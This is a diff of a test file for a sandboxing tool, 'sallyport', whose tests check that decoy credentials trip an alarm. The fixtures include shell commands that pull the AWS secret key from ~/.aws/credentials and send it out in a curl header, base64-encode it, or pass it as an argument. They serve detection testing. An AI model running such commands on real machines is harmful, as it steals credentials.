@@ -1,7 +1,7 @@
 import { spawnSync } from 'node:child_process';
-import { writeFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { startSecureWeb, startWeb } from './network.test-support.ts';
 import { makeWorkspace, type Place, sallyport } from './sallyport.test-support.ts';
 
@@ -81,12 +81,55 @@ test.skipIf(!has('curl'))('a decoy that somebody found and sends is an alarm', a
   const web = await startWeb();
   expect((await sallyport(place, ['secret', 'add', 'trap', '--canary'])).code).toBe(0);
   const script = `curl -sS -o /dev/null -w '%{http_code}' -H "x: $(grep secret_access ~/.aws/credentials | cut -d' ' -f3)" http://127.0.0.1:${web.port}/`;
-  const { stdout } = await sallyport(place, ['run', '-q', '--allow-host', `127.0.0.1:${web.port}`, '--', 'sh', '-c', script], {
-    cwd: place.workspace,
-  });
+  const { stdout, stderr } = await sallyport(
+    place,
+    ['run', '-q', '--allow-host', `127.0.0.1:${web.port}`, '--', 'sh', '-c', script],
+    {
+      cwd: place.workspace,
+    },
+  );
   expect(stdout).toBe('403');
+  expect(stderr).toContain(`the decoy trap stood in a request to 127.0.0.1:${web.port}`);
   expect(web.seen).toEqual([]);
   expect((await sallyport(place, ['trail', 'export', '--format', 'ndjson'])).stdout).toContain('secret:trap');
+});
+
+describe('a decoy that somebody took is an alarm', () => {
+  const key = "$(grep secret_access ~/.aws/credentials | cut -d' ' -f3)";
+
+  async function take(script: string, options: readonly string[] = []): Promise<{ err: string; alarms: unknown; trail: string }> {
+    const place = makeWorkspace();
+    expect((await sallyport(place, ['secret', 'add', 'trap', '--canary'])).code).toBe(0);
+    writeFileSync(join(place.workspace, 'take.sh'), script);
+    const summary = join(place.root, 'summary.json');
+    const args = ['run', '--unattended', '--summary', summary, ...options, '--', 'sh', 'take.sh'];
+    const { stderr } = await sallyport(place, args);
+    const { alarms }: { alarms?: unknown } = JSON.parse(readFileSync(summary, 'utf8'));
+    return { err: stderr, alarms, trail: (await sallyport(place, ['trail', 'show', 'last'])).stdout };
+  }
+
+  test('in a file that stays in the workspace', async () => {
+    const { err, alarms, trail } = await take(`printf 'x = %s\n' "${key}" > notes.txt`);
+    expect(alarms).toEqual([{ canary: 'trap', where: 'file', what: expect.stringMatching(/\/notes\.txt$/) }]);
+    expect(err).toContain('sallyport: ALARM: something in this run looked for credentials');
+    expect(trail).toMatch(/alarm {2}trap · file · \S+notes\.txt/);
+  });
+
+  test('in base64, and in the overlay of a transaction', async () => {
+    const { alarms } = await take(`printf '%s' "${key}" | base64 > notes.txt`, ['--transaction']);
+    expect(alarms).toEqual([{ canary: 'trap', where: 'file', what: expect.stringMatching(/\/notes\.txt$/) }]);
+  });
+
+  test('among the arguments of a program', async () => {
+    const { alarms, trail } = await take(`env true "${key}"`);
+    expect(alarms).toContainEqual({ canary: 'trap', where: 'record', what: expect.stringMatching(/^exec /) });
+    expect(trail).toContain('alarm  trap · record · exec');
+  });
+
+  test('reading it, or copying it within the cage, is none', async () => {
+    const { err, alarms } = await take('cat ~/.aws/credentials > /tmp/copy; cat /tmp/copy > /dev/null');
+    expect([alarms, err.includes('ALARM')]).toEqual([[], false]);
+  });
 });
 
 test('a secret that does not exist is said before anything runs', async () => {
